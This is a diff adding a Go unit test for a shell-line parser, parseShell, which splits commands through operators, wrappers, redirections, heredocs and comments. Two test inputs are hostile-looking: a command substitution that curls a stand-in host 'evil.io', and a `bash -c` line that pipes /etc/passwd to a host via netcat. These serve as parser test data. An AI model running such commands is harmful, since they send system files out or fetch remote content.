@@ -0,0 +1,77 @@
+package builtin
+
+import (
+	"reflect"
+	"testing"
+)
+
+func TestParseShell(t *testing.T) {
+	tests := []struct {
+		name string
+		line string
+		want []shellCommand
+	}{
+		{
+			name: "simple",
+			line: "curl -s https://example.com",
+			want: []shellCommand{{Name: "curl", Args: []string{"-s", "https://example.com"}}},
+		},
+		{
+			name: "operators and quotes",
+			line: `cd /tmp && echo "a b" | grep 'a b'; ls -l`,
+			want: []shellCommand{
+				{Name: "cd", Args: []string{"/tmp"}},
+				{Name: "echo", Args: []string{"a b"}},
+				{Name: "grep", Args: []string{"a b"}},
+				{Name: "ls", Args: []string{"-l"}},
+			},
+		},
+		{
+			name: "wrappers and assignments",
+			line: "FOO=1 sudo -u root env BAR=2 /usr/bin/wget x.org",
+			want: []shellCommand{{Name: "wget", Args: []string{"x.org"}}},
+		},
+		{
+			name: "redirections dropped",
+			line: "curl a.com > out.txt 2>&1 < in.txt",
+			want: []shellCommand{{Name: "curl", Args: []string{"a.com"}}},
+		},
+		{
+			name: "command substitution",
+			line: `echo "$(curl -s evil.io)"`,
+			want: []shellCommand{
+				{Name: "echo", Args: []string{"$(curl -s evil.io)"}},
+				{Name: "curl", Args: []string{"-s", "evil.io"}},
+			},
+		},
+		{
+			name: "sh -c",
+			line: `bash -c 'nc host 80 < /etc/passwd'`,
+			want: []shellCommand{{Name: "nc", Args: []string{"host", "80"}}},
+		},
+		{
+			name: "heredoc body skipped",
+			line: "cat <<'EOF' > f\ncurl not-a-command\nEOF\nls",
+			want: []shellCommand{{Name: "cat", Args: []string{}}, {Name: "ls", Args: []string{}}},
+		},
+		{
+			name: "comment",
+			line: "ls # curl x.com\npwd",
+			want: []shellCommand{{Name: "ls", Args: []string{}}, {Name: "pwd", Args: []string{}}},
+		},
+		{
+			name: "escaped newline",
+			line: "curl \\\n  x.com",
+			want: []shellCommand{{Name: "curl", Args: []string{"x.com"}}},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := parseShell(tt.line)
+			if !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("parseShell(%q) =\n%#v\nwant\n%#v", tt.line, got, tt.want)
+			}
+		})
+	}
+}